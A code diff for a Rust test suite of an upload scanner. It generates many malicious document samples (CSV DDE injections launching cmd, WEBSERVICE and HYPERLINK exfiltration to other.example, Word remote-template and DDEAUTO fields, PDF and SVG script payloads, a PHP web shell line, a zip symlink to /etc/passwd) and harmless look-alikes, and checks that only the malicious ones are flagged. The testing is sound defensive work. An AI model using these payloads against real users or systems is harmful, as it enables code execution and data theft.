@@ -31,6 +31,284 @@ fn word(parts: &[(&str, &[u8])]) -> Vec<u8> {
     paper::archive(&all)
 }
 
+/// A Word document that a relation of this kind leads elsewhere.
+fn related(kind: &str, target: &str) -> Vec<u8> {
+    let relation = format!(
+        "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}' Target='{target}' TargetMode='External'/></Relationships>"
+    );
+    word(&[("word/_rels/document.xml.rels", relation.as_bytes())])
+}
+
+fn field(code: &str) -> Vec<u8> {
+    paper::docx(&format!("{}<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>", paper::paragraphs("แผน")), &[])
+}
+
+/// A workbook with a formula in a cell, and a part beside its sheet.
+fn calculated(formula: &str, beside: &[(&str, &str)]) -> Vec<u8> {
+    let table = paper::rows(&[&["ที่", "รายการ"], &["1", "กระดาษถ่ายเอกสาร"], &["2", "หมึกพิมพ์"]]);
+    let rows = format!("{table}<row r='4'><c r='B4'><f>{formula}</f><v>0</v></c></row>");
+    paper::xlsx(&[paper::Sheet { name: "รายการ", state: "visible", rows }], &[], beside)
+}
+
+/// A text, sheet or slides of OpenDocument with this in its body.
+fn open_document(kind: &str, body: &str) -> Vec<u8> {
+    let content =
+        format!("<o:document><o:body><o:{kind}><text:p>แผนปฏิบัติการ</text:p>{body}</o:{kind}></o:body></o:document>");
+    let kind = format!("application/vnd.oasis.opendocument.{kind}");
+    paper::archive(&[("mimetype", kind.as_bytes()), ("content.xml", content.as_bytes())])
+}
+
+fn slides(inside: &str) -> Vec<u8> {
+    let slide = format!("<p:sld><a:t>แผนปฏิบัติการ</a:t>{inside}</p:sld>");
+    paper::archive(&[("ppt/presentation.xml", b"<p:presentation/>"), ("ppt/slides/slide1.xml", slide.as_bytes())])
+}
+
+/// A PDF whose page has this entry more, with an object beside.
+fn pdf_with(page: &str, object: &str) -> Vec<u8> {
+    let objects = [
+        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
+        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>"),
+        object.to_owned(),
+    ];
+    paper::written(&objects, "")
+}
+
+fn pdf_link(action: &str) -> Vec<u8> {
+    pdf_with(&format!("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << {action} >> >>]"), "<< >>")
+}
+
+/// A table of three rows with this cell in the last.
+fn table(cell: &str) -> Vec<u8> {
+    format!("ที่,รายการ\n1,กระดาษถ่ายเอกสาร\n2,{cell}\n").into()
+}
+
+fn wide(text: &str) -> Vec<u8> {
+    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
+}
+
+/// What starts a program or fetches something when a spreadsheet, Word or a reader of PDF opens it.
+fn started() -> Vec<(String, Vec<u8>)> {
+    let mut all: Vec<(String, Vec<u8>)> = Vec::new();
+    let mut add = |name: &str, bytes: Vec<u8>| all.push((name.to_owned(), bytes));
+    for (at, cell) in [
+        "=cmd|' /C calc'!A0",
+        "\"=cmd|'/C calc'!A0\"",
+        "\"\n=cmd|' /C calc'!A0\"",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=cmd|' /C calc'!A0",
+        "＝cmd|' /C calc'!A0",
+        "=c m d |' /C calc'!A0",
+        "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
+        "\"=WEBSERVICE(\"\"http://other.example/\"\"&A1)\"",
+        "\"=IMPORTXML(\"\"http://other.example\"\",\"\"//a\"\")\"",
+        "\"=RTD(\"\"x\"\",\"\"\"\",\"\"y\"\")\"",
+        "\"=HYPERLINK(\"\"http://other.example/?x=\"\"&A1,\"\"คลิก\"\")\"",
+        "\"=CALL(\"\"urlmon\"\",\"\"URLDownloadToFileA\"\",\"\"JJCCJJ\"\",0,\"\"http://other.example\"\",\"\"a\"\",0,0)\"",
+        "=EXEC(\"calc\")",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        add(&format!("cell{at}.csv"), table(cell));
+    }
+    let dde = "ที่;รายการ\n1;=cmd|' /C calc'!A0\n2;กขค\n";
+    add("half.csv", dde.into());
+    add("said.csv", format!("sep=;\n{dde}").into());
+    add("wide.csv", wide(&format!("\u{FEFF}{dde}")));
+    add("dde.txt", "แผนปฏิบัติการ\n=cmd|' /C calc'!A0\n".into());
+    add("cell.zip", paper::archive(&[("a.csv", &table("=cmd|' /C calc'!A0"))]));
+    for name in ["sylk.csv", "sylk.txt"] {
+        add(name, "ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;K0;EEXEC(\"CALC.EXE\")\nE\n".into());
+    }
+    for (name, kind, target) in [
+        ("template", "attachedTemplate", "http://other.example/t.dotm"),
+        ("share", "attachedTemplate", "file:///\\\\10.1.1.1\\x\\t.dotm"),
+        ("object", "oleObject", "http://other.example/a.html!x"),
+        ("frame", "frame", "http://other.example/a.html"),
+        ("part", "subDocument", "http://other.example/a.docx"),
+        ("chunk", "aFChunk", "https://other.example/a.mht"),
+        ("picture", "image", "http://other.example/track.png"),
+        ("script", "hyperlink", "javascript:alert(1)"),
+        ("tool", "hyperlink", "file:///c:/windows/system32/cmd.exe"),
+        ("scheme", "hyperlink", "ms-msdt:/id PCWDiagnostic"),
+        ("search", "hyperlink", "search-ms:query=a&amp;crumb=location:\\\\other"),
+        ("unc", "hyperlink", "\\\\other.example\\a.docx"),
+        ("book", "externalLinkPath", "\\\\other.example\\a.xlsx"),
+        ("vba", "vbaProject", "stuff.dat"),
+    ] {
+        add(&format!("rel-{name}.docx"), related(kind, target));
+    }
+    for (at, code) in [
+        "INCLUDETEXT \"http://other.example/a.docx\"",
+        "INCLUDEPICTURE \"https://other.example/a.png\" \\d",
+        "MACROBUTTON AutoOpen click",
+        "QUOTE 68 68 69 65 85 84 79 32",
+        "DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe",
+        "PAGE</w:instrText></w:r><w:r><w:fldChar/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        add(&format!("field{at}.docx"), field(code));
+    }
+    for (name, part, text) in [
+        ("ribbon", "customUI/customUI.xml", "<customUI onLoad='x.dotm!load'/>"),
+        ("control", "word/controls/a.xml", "<ax:ocx ax:classid='{0}'/>"),
+        ("web", "word/webextensions/w.xml", "<we:reference store='\\\\other\\share' storeType='FileSystem'/>"),
+        (
+            "merge",
+            "word/settings.xml",
+            "<w:settings><w:mailMerge><w:connectString w:val='x'/></w:mailMerge></w:settings>",
+        ),
+        ("js", "word/embeddings/run.js", "new ActiveXObject('WScript.Shell')"),
+        ("bat", "word/embeddings/run.bat", "@echo off"),
+        ("page", "word/embeddings/a.html", "<html><script>alert(1)</script></html>"),
+        (
+            "project",
+            "[Content_Types].xml",
+            "<Types><Default ContentType='application/vnd.ms-office.vbaProject'/></Types>",
+        ),
+    ] {
+        add(&format!("part-{name}.docx"), word(&[(part, text.as_bytes())]));
+    }
+    let package =
+        [b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0", &*wide("\u{1}Ole10Native"), b"\x02\0run.bat\0C:\\run.bat\0"];
+    add("part-package.docx", word(&[("word/embeddings/oleObject1.bin", &package.concat())]));
+    for (at, formula) in [
+        "cmd|' /C calc'!A0",
+        "WEBSERVICE(\"http://other.example/\"&amp;B2)",
+        "RTD(\"x\",\"\",\"y\")",
+        "_xlfn.IMAGE(\"http://other.example/a.png\")",
+        "HYPERLINK(\"file:///c:/windows/system32/cmd.exe\",\"x\")",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        add(&format!("formula{at}.xlsx"), calculated(formula, &[]));
+    }
+    for (at, (part, text)) in [
+        ("xl/connections.xml", "<connections><connection><webPr url='http://other.example/a'/></connection></connections>"),
+        ("xl/connections.xml", "<connections><connection><dbPr connection='Provider=SQLOLEDB;Data Source=other'/></connection></connections>"),
+        ("xl/externalLinks/a.xml", "<externalLink><oleLink progId='htmlfile'/></externalLink>"),
+        ("xl/names.xml", "<definedNames><definedName name='_xlnm.Auto_Open'>Sheet1!$A$1</definedName></definedNames>"),
+        ("xl/sheets/sheet9.xml", "<xm:macrosheet><sheetData/></xm:macrosheet>"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        add(&format!("book{at}.xlsx"), calculated("A1", &[(part, text)]));
+    }
+    for (at, inside) in [
+        "<a:hlinkMouseOver action='ppaction://program'/>",
+        "<a:hlinkClick action='ppaction://macro?name=a'/>",
+        "<p:cmd type='verb' cmd='0'/>",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        add(&format!("slide{at}.pptx"), slides(inside));
+    }
+    let run = "vnd.sun.star.script:a.py$f?language=Python";
+    for (at, (kind, body)) in [
+        ("text", format!("<script:event-listener script:event-name='dom:load' xlink:href='{run}'/>")),
+        ("text", format!("<text:a xlink:href='{run}'>ก</text:a>")),
+        ("text", "<text:script script:language='JavaScript'>alert(1)</text:script>".to_owned()),
+        ("text", "<text:execute-macro text:name='x'>m</text:execute-macro>".to_owned()),
+        ("text", "<form:button form:button-type='url' xlink:href='javascript:alert(1)'/>".to_owned()),
+        ("text", "<draw:image xlink:href='http://other.example/a.png'/>".to_owned()),
+        ("text", "<text:section-source xlink:href='http://other.example/a.odt'/>".to_owned()),
+        ("text", "<draw:floating-frame xlink:href='http://other.example/'/>".to_owned()),
+        (
+            "presentation",
+            "<presentation:event-listener presentation:action='execute' xlink:href='file:///c:/a.exe'/>".to_owned(),
+        ),
+        (
+            "spreadsheet",
+            "<table:table-cell table:formula='of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)'/>".to_owned(),
+        ),
+        ("spreadsheet", "<table:table-cell table:formula='of:=COM.MICROSOFT.WEBSERVICE([.A1])'/>".to_owned()),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let ending = if kind == "text" {
+            "odt"
+        } else if kind == "presentation" {
+            "odp"
+        } else {
+            "ods"
+        };
+        add(&format!("open{at}.{ending}"), open_document(kind, &body));
+    }
+    for (at, action) in [
+        "/S /URI /URI (javascript:alert\\(1\\))",
+        "/S /URI /URI (file:///c:/windows/system32/cmd.exe)",
+        "/S /GoToR /F (\\\\\\\\other\\\\a.pdf) /D [0 /Fit]",
+        "/S /Thread /F (\\\\\\\\other\\\\a.pdf) /D 0",
+        "/S /SubmitForm /F << /FS /URL /F (http://other.example) >>",
+        "/S /Sound /Sound << /F (http://other.example/a) >>",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        add(&format!("link{at}.pdf"), pdf_link(action));
+    }
+    for (at, object) in [
+        "<< /Type /Annot /Subtype /RichMedia >>".to_owned(),
+        "<< /Type /Annot /Subtype /Movie /Movie << /F (http://other.example/a.swf) >> >>".to_owned(),
+        paper::stream("/Type /3D /OnInstantiate 3 0 R ", "x"),
+        paper::stream("/Type /XObject /Subtype /PS ", "%!PS (cmd) run"),
+        paper::stream("/F << /FS /URL /F (http://other.example/a) >> ", ""),
+        paper::stream("/Subtype /Form /Ref << /F (http://other.example/a.pdf) /Page 0 >> ", "0 0 9 9 re f"),
+        paper::stream(
+            "",
+            "<x:xdp xmlns:x='x'><t:event activity='initialize'><t:script>app.alert(1)</t:script></t:event></x:xdp>",
+        ),
+        paper::stream("", "<xdp><event activity='docReady'><submit target='http://other.example/'/></event></xdp>"),
+        paper::stream("", "<?xml-stylesheet href='http://other.example/a.xslt'?><xdp/>"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        add(&format!("object{at}.pdf"), pdf_with("", &object));
+    }
+    let script = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
+    add("little.svg", wide(script));
+    add("big.svg", script.encode_utf16().flat_map(u16::to_be_bytes).collect());
+    add("declared.svg", wide(&format!("<?xml version='1.0' encoding='UTF-16LE'?>{script}")));
+    let escaped = script.replace("script", "scr\u{1B}(Bipt");
+    add("escape.svg", format!("<?xml version='1.0' encoding='iso-2022-jp'?>{escaped}").into());
+    add("escape.xml", format!("<?xml version='1.0' encoding='iso-2022-jp'?><x>{escaped}</x>").into());
+    add("source.svg", svg("><h:img xmlns:h='http://www.w3.org/1999/xhtml' srcset='//other.example/a 2x'/>"));
+    add("alarm.ics", "BEGIN:VCALENDAR\nBEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM\nEND:VCALENDAR\n".into());
+    add("attach.ics", "BEGIN:VCALENDAR\nATTACH;FMTTYPE=a/b:ftp://other.example/a/b.exe\nEND:VCALENDAR\n".into());
+    add("mark.txt", "\u{FEFF}<?php system($_GET['c']);".into());
+    for name in
+        ["a.com.pdf", "a.jse.pdf", "a.ws.pdf", "a.msc.pdf", "a.reg.pdf", "a.gadget.pdf", "a.php_.pdf", "a.phtm.pdf"]
+    {
+        add(name, paper::pdf(&["แผน"]));
+    }
+    for name in ["a.php-s.txt", "a.asax.txt", "web.config.xml", "a.vb.txt"] {
+        add(name, "แผนปฏิบัติการ".into());
+    }
+    let plan = paper::pdf(&["แผน"]);
+    for (at, name) in ["a.php.pdf", "a.exe .pdf", "index.php.txt", ".hidden.pdf"].into_iter().enumerate() {
+        let bytes = if name.ends_with("txt") { b"x" } else { &plan[..] };
+        add(&format!("member{at}.zip"), paper::archive(&[(name, bytes)]));
+    }
+    let mut linked = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    linked.add_symlink("plan.txt", "../../../etc/passwd", zip::write::SimpleFileOptions::default()).expect("a link");
+    add("linked.zip", linked.finish().expect("an archive").into_inner());
+    add("behind.pdf", [plan.clone(), paper::archive(&[("a.exe", b"MZ")])].concat());
+    add("before.pdf", [b"%PDF-1.7\n".to_vec(), paper::archive(&[("a.exe", b"MZ")])].concat());
+    add("beside.docx", word(&[("plan.pdf", &plan)]));
+    add("within.docx", word(&[("word/a.exe", b"MZ")]));
+    all
+}
+
 fn dangerous() -> Vec<(&'static str, Vec<u8>)> {
     let plain = |text: &str| text.as_bytes().to_vec();
     let page = || plain("<!DOCTYPE html><title>Sign in</title><script>location='https://slot.example'</script>");
@@ -152,6 +430,53 @@ fn harmless() -> Vec<(&'static str, Vec<u8>)> {
         ("map.kml", "<?xml version='1.0'?><kml xmlns='http://www.opengis.net/kml/2.2'><name>ก</name></kml>".into()),
         ("area.geojson", "{\"type\": \"FeatureCollection\", \"features\": []}".into()),
         ("link.docx", paper::docx(&paper::paragraphs("แผนพัฒนา"), &[])),
+        ("web.docx", related("hyperlink", "https://www.example.go.th/a?b=1")),
+        ("mail.docx", related("hyperlink", "mailto:a@example.com")),
+        ("own.docx", related("hyperlink", "file:///C:/Users/a/Documents/plan.docx")),
+        ("template.docx", related("attachedTemplate", "file:///C:\\Users\\a\\Templates\\Report.dotx")),
+        ("inner.docx", related("image", "media/image1.png")),
+        ("page.docx", field("PAGE \\* MERGEFORMAT")),
+        ("address.docx", field("HYPERLINK \"https://www.example.go.th/\"")),
+        ("button.docx", field("MACROBUTTON NoMacro [คลิก]")),
+        (
+            "theme.docx",
+            word(&[("word/theme/theme1.xml", b"<a:theme/>"), ("word/embeddings/a.xlsx", &calculated("A1", &[]))]),
+        ),
+        ("sum.xlsx", calculated("SUM(A1:A3)+'a|b'!A1", &[("xl/printerSettings/a.xml", "<p/>")])),
+        ("open.xlsx", calculated("HYPERLINK(\"https://www.example.go.th/?a=\"&amp;A1,\"ดู\")", &[])),
+        (
+            "query.xlsx",
+            calculated(
+                "A1",
+                &[("xl/connections.xml", "<c><dbPr connection='Provider=Microsoft.Mashup.OleDb.1;'/></c>")],
+            ),
+        ),
+        ("next.pptx", slides("<a:hlinkClick action='ppaction://hlinkshowjump?jump=nextslide'/><p:cmd type='call'/>")),
+        ("next.odp", open_document("presentation", "<presentation:event-listener presentation:action='next-page'/>")),
+        ("sum.ods", open_document("spreadsheet", "<table:table-cell table:formula='of:=SUM([.A1:.A3])'/>")),
+        (
+            "link.odt",
+            open_document(
+                "text",
+                "<text:a xlink:href='https://www.example.go.th/'>ก</text:a><draw:image xlink:href='Pictures/a.png'/><form:form xlink:href=''/>",
+            ),
+        ),
+        ("link.pdf", pdf_link("/S /URI /URI (https://www.example.go.th/)")),
+        ("other.pdf", pdf_link("/S /GoToR /F (plan.pdf) /D [0 /Fit]")),
+        ("file.pdf", pdf_link("/S /URI /URI (file:///C:/Users/a/plan.docx)")),
+        ("sums.csv", table("-5,=A1+B1,\"=\"\"3500001\"\"\",+66 42 123456,- หัวข้อ,@ ก")),
+        ("heads.csv", "ID;Phone\n1;ก\n2;ข\n".into()),
+        ("list.txt", "แผนปฏิบัติการ\n- เรียก CALL(1) | ก\n+ ข้อ 2\n".into()),
+        ("old.svg", [b"<?xml version='1.0' encoding='TIS-620'?>".to_vec(), svg("><path/>")].concat()),
+        (
+            "data.xml",
+            "<?xml version='1.0' encoding='UTF-8'?><a><image href='https://a.example/a.png'/><f>1</f></a>".into(),
+        ),
+        (
+            "meet.ics",
+            "BEGIN:VCALENDAR\nSUMMARY:ประชุม\nACTION:DISPLAY\nATTACH:https://example.com\nEND:VCALENDAR\n".into(),
+        ),
+        ("v1.2.zip", paper::archive(&[("plan.v1.2.pdf", &paper::pdf(&["แผน"]))])),
         ("all.zip", paper::archive(&[("plan.pdf", &paper::pdf(&["แผน"])), ("list.csv", "ก,ข\n".as_bytes())])),
     ]
 }
@@ -163,7 +488,11 @@ fn what_would_run_is_refused_and_what_looks_like_it_is_not() {
     copy(&site("two-years"), &own);
     let files = own.join("content/files");
     fs::create_dir_all(&files).expect("a folder can be made");
-    let (dangerous, harmless) = (dangerous(), harmless());
+    let named = |(name, bytes): (&str, Vec<u8>)| (name.to_owned(), bytes);
+    let dangerous: Vec<_> = dangerous().into_iter().map(named).chain(started()).collect();
+    let harmless: Vec<_> = harmless().into_iter().map(named).collect();
+    let names: BTreeSet<_> = dangerous.iter().chain(&harmless).map(|(name, _)| name).collect();
+    assert_eq!(names.len(), dangerous.len() + harmless.len(), "each has a name of its own");
     for (name, bytes) in dangerous.iter().chain(&harmless) {
         fs::write(files.join(name), bytes).expect("a file can be written");
     }
@@ -177,10 +506,10 @@ fn what_would_run_is_refused_and_what_looks_like_it_is_not() {
             errors.entry(name).or_default().insert(finding["code"].as_str().unwrap_or_default());
         }
     }
-    let passed: Vec<_> = dangerous.iter().map(|(name, _)| *name).filter(|name| !errors.contains_key(name)).collect();
+    let passed: Vec<_> = dangerous.iter().map(|(name, _)| &**name).filter(|name| !errors.contains_key(name)).collect();
     assert!(passed.is_empty(), "{} of {} pass: {passed:?}", passed.len(), dangerous.len());
-    assert!(dangerous.len() >= 60, "{}", dangerous.len());
+    assert!(dangerous.len() >= 200, "{}", dangerous.len());
     for (name, _) in &harmless {
-        assert_eq!(errors.get(name), None, "{name}");
+        assert_eq!(errors.get(&**name), None, "{name}");
     }
 }
